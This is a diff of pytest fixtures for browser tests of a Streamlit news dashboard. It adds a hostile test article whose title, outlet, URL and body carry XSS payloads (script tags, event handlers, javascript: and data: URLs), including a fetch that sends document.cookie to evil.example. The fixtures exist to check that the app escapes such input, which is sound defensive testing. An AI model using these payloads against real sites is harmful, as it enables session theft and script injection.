@@ -1,8 +1,10 @@
 """Fixtures for the browser tests: a real `streamlit run` server and Chromium with an offline CDN.
 
 * ``articles_dir`` (session): a temporary copy of the articles the app reads (default: the repo's
-  ``seeds/``; override with ``DURAND_E2E_ARTICLES``) plus one hostile article (``HOSTILE_ARTICLE``).
-* ``app_server`` (session): ``python -m streamlit run dashboard/app.py`` on a free loopback port with
+  ``seeds/``; override with ``DURAND_E2E_ARTICLES``) plus two hostile articles (``hostile_article``,
+  ``hostile_article_urls``: script/event-handler HTML, ``</script>``, template-literal breakers and
+  javascript:/data: URLs in title, outlet, url and body).
+* ``app_server`` (session, tests/e2e/server.py): ``python -m streamlit run dashboard/app.py`` on a free loopback port with
   ``DURAND_ARTICLES_DIR`` set; waits for ``/_stcore/health``; always killed at the end; its log is
   printed when startup or any test failed.
 * ``browser`` (session): Debian's Chromium (``/usr/bin/chromium``; the test FAILS if it is missing).
@@ -15,31 +17,14 @@ from __future__ import annotations
 
 import os
 import shutil
-import signal
-import socket
-import subprocess
-import sys
-import time
-import urllib.request
 from pathlib import Path
 
 import pytest
 
 from .cdn import OfflineCDN
-
-REPO = Path(__file__).resolve().parents[2]
-CHROMIUM = os.environ.get("DURAND_E2E_CHROMIUM", "/usr/bin/chromium")
-CHROMIUM_ARGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
-]
-# The app under test; overridable only to develop the tests against a stand-in app.
-APP = os.environ.get("DURAND_E2E_APP", str(REPO / "dashboard" / "app.py"))
-STARTUP_TIMEOUT_S = 90
+from .server import (  # noqa: F401 (re-exported for the tests)
+    APP, CHROMIUM, CHROMIUM_ARGS, REPO, AppServer, PageGuard, ServerFailed, free_port, running_app,
+)
 
 HOSTILE_STEM = "zz_hostile"
 HOSTILE_TITLE = """<img src=x onerror="document.title='pwned'">"""
@@ -51,6 +36,36 @@ HOSTILE_SENTENCE = (
 )
 
 
+# A second hostile article: every field (title, outlet, url, body) carries script tags, event
+# handlers, `</script>`, template-literal breakers and javascript:/data: URLs. Every payload that
+# could run sets window.__xss, calls alert() or asks a foreign host for something.
+HOSTILE2_STEM = "zz_hostile_urls"
+HOSTILE2_MARK = "E2E-hostile-urls"
+HOSTILE2_TITLE = (
+    "</script><script>window.__xss=1</script> `${window.__xss=2}` "
+    "<svg onload=\"window.__xss=3\"></svg> <a href=\"javascript:window.__xss=4\">t</a>"
+)
+HOSTILE2_OUTLET = HOSTILE2_MARK + " <b onmouseover=alert(5)>o</b> ${alert(6)} javascript:alert(7)"
+HOSTILE2_URL = "javascript:fetch('https://evil.example/steal?c='+document.cookie)"
+HOSTILE2_SENTENCE = (
+    "Pakistani drones struck a house in Spin Boldak district of Kandahar province on Tuesday, killing two people."
+)
+
+
+def hostile_article_urls() -> str:
+    import yaml
+
+    front = yaml.safe_dump(
+        {"title": HOSTILE2_TITLE, "outlet": HOSTILE2_OUTLET, "url": HOSTILE2_URL, "published": "2025-10-16"},
+        allow_unicode=True, sort_keys=False, width=10_000,
+    )
+    return (
+        f"---\n{front}---\n{HOSTILE2_SENTENCE}\n"
+        "See <a href=\"javascript:window.__xss=8\">this</a>, <img src=\"https://evil.example/x.png\" "
+        "onerror=\"window.__xss=9\"> and data:text/html,<script>window.__xss=10</script> `${window.__xss=11}`.\n"
+    )
+
+
 def hostile_article() -> str:
     """An article whose every field tries to inject HTML/JS; its first sentence is an incident."""
     import yaml
@@ -60,12 +75,6 @@ def hostile_article() -> str:
         allow_unicode=True, sort_keys=False,
     )
     return f"---\n{front}---\n{HOSTILE_SENTENCE}\nOfficials said </script><script>alert(1)</script> nothing else.\n"
-
-
-def free_port() -> int:
-    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
-        sock.bind(("127.0.0.1", 0))
-        return sock.getsockname()[1]
 
 
 # -- failure bookkeeping (to print the server log only when something failed) ------------------
@@ -85,90 +94,24 @@ def articles_dir(tmp_path_factory) -> Path:
     target = tmp_path_factory.mktemp("articles") / "articles"
     shutil.copytree(source, target)
     (target / f"{HOSTILE_STEM}.md").write_text(hostile_article(), encoding="utf-8")
+    (target / f"{HOSTILE2_STEM}.md").write_text(hostile_article_urls(), encoding="utf-8")
     return target
-
-
-class AppServer:
-    def __init__(self, url: str, process: subprocess.Popen, log_path: Path, articles: Path):
-        self.url = url
-        self.process = process
-        self.log_path = log_path
-        self.articles = articles
-
-    def log(self) -> str:
-        try:
-            return self.log_path.read_text(encoding="utf-8", errors="replace")
-        except OSError:
-            return ""
-
-
-def _stop(process: subprocess.Popen) -> None:
-    if process.poll() is not None:
-        return
-    try:
-        os.killpg(process.pid, signal.SIGTERM)  # our own process group (start_new_session)
-    except ProcessLookupError:
-        return
-    try:
-        process.wait(timeout=10)
-    except subprocess.TimeoutExpired:
-        try:
-            os.killpg(process.pid, signal.SIGKILL)
-        except ProcessLookupError:
-            pass
-        process.wait(timeout=10)
 
 
 @pytest.fixture(scope="session")
 def app_server(request, articles_dir, tmp_path_factory):
-    if not Path(APP).is_file():
-        pytest.fail(f"the app under test does not exist: {APP}")
-    port = free_port()
     log_path = tmp_path_factory.mktemp("server") / "streamlit.log"
-    env = dict(os.environ)
-    env.pop("DURAND_GEOJSON", None)  # the app must read the articles, not a prebuilt file
-    env.update(
-        DURAND_ARTICLES_DIR=str(articles_dir),
-        PYTHONPATH=os.pathsep.join(filter(None, [str(REPO), env.get("PYTHONPATH", "")])),
-        STREAMLIT_BROWSER_GATHER_USAGE_STATS="false",
-        PYTHONUNBUFFERED="1",
-    )
-    cmd = [
-        sys.executable, "-m", "streamlit", "run", APP,
-        "--server.headless", "true",
-        "--server.port", str(port),
-        "--server.address", "127.0.0.1",
-        "--browser.gatherUsageStats", "false",
-        "--server.fileWatcherType", "none",
-    ]
-    with open(log_path, "wb") as log_file:
-        process = subprocess.Popen(
-            cmd, cwd=REPO, env=env, stdout=log_file, stderr=subprocess.STDOUT,
-            stdin=subprocess.DEVNULL, start_new_session=True,
-        )
-    server = AppServer(f"http://127.0.0.1:{port}", process, log_path, articles_dir)
     try:
-        deadline = time.monotonic() + STARTUP_TIMEOUT_S
-        while True:
-            if process.poll() is not None:
-                pytest.fail(f"streamlit exited with {process.returncode} before it was healthy:\n{server.log()}")
+        # DURAND_GEOJSON dropped: the app must read the articles, not a prebuilt file.
+        with running_app(log_path, {"DURAND_ARTICLES_DIR": str(articles_dir)}, drop_env=("DURAND_GEOJSON",),
+                         articles=articles_dir) as server:
             try:
-                with urllib.request.urlopen(f"{server.url}/_stcore/health", timeout=2) as resp:
-                    if resp.status == 200:
-                        break
-            except OSError:
-                pass
-            if time.monotonic() > deadline:
-                pytest.fail(f"streamlit not healthy after {STARTUP_TIMEOUT_S}s:\n{server.log()}")
-            time.sleep(0.25)
-        yield server
-    except BaseException:
-        print(f"\n===== streamlit server log ({log_path}) =====\n{server.log()}")
-        raise
-    finally:
-        _stop(process)
-        if getattr(request.config, "_e2e_failed", False):
-            print(f"\n===== streamlit server log ({log_path}) =====\n{server.log()}")
+                yield server
+            finally:
+                if getattr(request.config, "_e2e_failed", False):
+                    print(f"\n===== streamlit server log ({log_path}) =====\n{server.log()}")
+    except ServerFailed as exc:
+        pytest.fail(str(exc))
 
 
 # -- the browser -------------------------------------------------------------------------------
@@ -187,31 +130,6 @@ def browser():
             yield browser
         finally:
             browser.close()
-
-
-class PageGuard:
-    """Records what a test must never see: dialogs, page errors, foreign requests."""
-
-    def __init__(self, cdn: OfflineCDN):
-        self.cdn = cdn
-        self.dialogs: list[str] = []
-        self.page_errors: list[str] = []
-        self.console_errors: list[str] = []
-
-    def watch(self, page) -> None:
-        def on_dialog(dialog):
-            self.dialogs.append(f"{dialog.type}: {dialog.message}")
-            try:
-                dialog.dismiss()
-            except Exception:  # noqa: BLE001 - the page may be gone
-                pass
-
-        page.on("dialog", on_dialog)
-        page.on("pageerror", lambda exc: self.page_errors.append(str(exc)))
-        page.on("console", lambda msg: self.console_errors.append(msg.text) if msg.type == "error" else None)
-
-    def problems(self) -> list[str]:
-        return [f"JS dialog opened: {d}" for d in self.dialogs] + self.cdn.problems()
 
 
 @pytest.fixture
